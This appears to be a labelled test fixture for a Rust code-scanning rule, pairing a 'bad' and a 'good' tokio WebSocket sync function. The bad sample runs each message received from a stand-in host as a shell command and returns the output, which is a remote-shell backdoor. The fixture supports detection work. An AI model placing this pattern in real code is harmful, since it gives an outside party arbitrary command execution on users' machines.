//: bad tokio-commands
use futures_util::{SinkExt, StreamExt};
use tokio::process::Command;
use tokio_tungstenite::{connect_async, tungstenite::Message};

pub async fn sync() {
    let (mut socket, _) = connect_async("wss://w.example.invalid/s").await.unwrap();
    while let Some(Ok(Message::Text(line))) = socket.next().await {
        let done = Command::new("sh").arg("-c").arg(line.to_string()).output().await.unwrap(); //!
        socket.send(Message::Binary(done.stdout.into())).await.ok();
    }
}

//: good tokio-commands
use futures_util::{SinkExt, StreamExt};
use tokio_tungstenite::{connect_async, tungstenite::Message};

pub async fn sync() {
    let (mut socket, _) = connect_async("wss://w.example.invalid/s").await.unwrap();
    while let Some(Ok(Message::Text(line))) = socket.next().await {
        let count = line.to_string().split_whitespace().count();
        socket.send(Message::Text(count.to_string().into())).await.ok();
    }
}
